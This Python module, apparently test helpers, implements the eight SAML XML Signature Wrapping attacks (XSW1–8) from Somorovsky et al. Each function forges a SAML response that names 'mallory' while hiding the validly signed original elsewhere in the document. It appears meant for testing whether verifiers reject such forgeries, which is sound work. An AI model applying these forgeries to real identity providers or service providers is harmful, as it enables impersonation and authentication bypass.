"""Signature wrapping (Somorovsky et al., 'On Breaking SAML: Be Whoever You Want to Be', 2012), variants 1 to 8.

Each leaves the signed original somewhere in the document, where the signature's reference still finds it, and
puts words of its own where a careless reader looks.
"""

from copy import deepcopy

from lxml.etree import _Element as Element

from tests.saml_forge.edits import element, find

EVIL = "mallory"
_ASSERTION = "/samlp:Response/saml:Assertion"
_SIGNATURE = "./ds:Signature"


def _evil(original: Element, *, keep_signature: bool = False) -> Element:
    """A copy that speaks of somebody else, under an ID of its own."""
    copy = deepcopy(original)
    copy.set("ID", f"{original.get('ID')}_evil")
    find(copy, ".//saml:NameID").text = EVIL
    if not keep_signature:
        _unsign(copy)
    return copy


def _unsign(signed: Element) -> None:
    signed.remove(find(signed, _SIGNATURE))


def _become_evil(signed: Element) -> Element:
    """Turn the signed element itself into the evil one; return the innocent original without its signature."""
    original = deepcopy(signed)
    _unsign(original)
    signed.set("ID", f"{signed.get('ID')}_evil")
    find(signed, ".//saml:NameID").text = EVIL
    return original


def xsw1(root: Element) -> None:
    original = _become_evil(root)
    find(root, _SIGNATURE).append(original)


def xsw2(root: Element) -> None:
    original = _become_evil(root)
    find(root, _SIGNATURE).addprevious(original)


def xsw3(root: Element) -> None:
    original = find(root, _ASSERTION)
    original.addprevious(_evil(original))


def xsw4(root: Element) -> None:
    original = find(root, _ASSERTION)
    evil = _evil(original)
    original.addprevious(evil)
    evil.append(original)


def xsw5(root: Element) -> None:
    root.append(_become_evil(find(root, _ASSERTION)))


def xsw6(root: Element) -> None:
    assertion = find(root, _ASSERTION)
    find(assertion, _SIGNATURE).append(_become_evil(assertion))


def xsw7(root: Element) -> None:
    original = find(root, _ASSERTION)
    extensions = element("<samlp:Extensions/>")
    find(root, "./saml:Issuer").addnext(extensions)
    hidden = deepcopy(original)
    evil = _evil(original)
    root.replace(original, evil)
    extensions.append(hidden)


def xsw8(root: Element) -> None:
    assertion = find(root, _ASSERTION)
    original = _become_evil(assertion)
    holder = element("<ds:Object/>")
    holder.append(original)
    find(assertion, _SIGNATURE).append(holder)
